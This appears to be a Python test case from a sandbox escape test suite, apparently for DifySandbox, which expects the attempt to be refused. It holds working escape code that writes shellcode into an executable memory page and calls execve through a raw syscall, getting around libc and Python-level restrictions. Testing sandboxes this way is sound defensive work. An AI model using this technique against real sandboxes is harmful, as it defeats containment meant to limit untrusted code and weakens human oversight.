# expect-result: refused
# attack: execve from a raw syscall instruction in an RWX page (bypasses libc and Python)
import ctypes, os, sys
MARK = 'DIFYSANDBOX-' + 'ESCAPED'
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def sc(nr, *args):
    """Raw syscall; ints are passed as full 64-bit longs."""
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *conv)
    return r, ctypes.get_errno()

import mmap


def machine_code(hexcode):
    """Puts x86-64 machine code into an anonymous RWX page and returns it as a C function -> long."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex(hexcode))
    addr = ctypes.addressof(ctypes.c_char.from_buffer(page))
    fn = ctypes.CFUNCTYPE(ctypes.c_long)(addr)
    fn.page = page  # keep the mapping alive
    return fn

exe = ctypes.create_string_buffer(sys.executable.encode())
a1, a2, a3 = (ctypes.create_string_buffer(s) for s in (b'-I', b'-c', b"print('DIFYSANDBOX-' + 'ESCAPED', 'from raw execve')"))
argv = (ctypes.c_void_p * 5)(ctypes.addressof(exe), ctypes.addressof(a1), ctypes.addressof(a2), ctypes.addressof(a3), None)
envp = (ctypes.c_void_p * 1)(None)
import struct
code = ('48bf' + struct.pack('<Q', ctypes.addressof(exe)).hex() +    # mov rdi, path
        '48be' + struct.pack('<Q', ctypes.addressof(argv)).hex() +   # mov rsi, argv
        '48ba' + struct.pack('<Q', ctypes.addressof(envp)).hex() +   # mov rdx, envp
        'b83b0000000f05c3')                                          # mov eax,59; syscall; ret
fn = machine_code(code)
print('calling', flush=True)
r = fn()
print('raw execve returned', r)
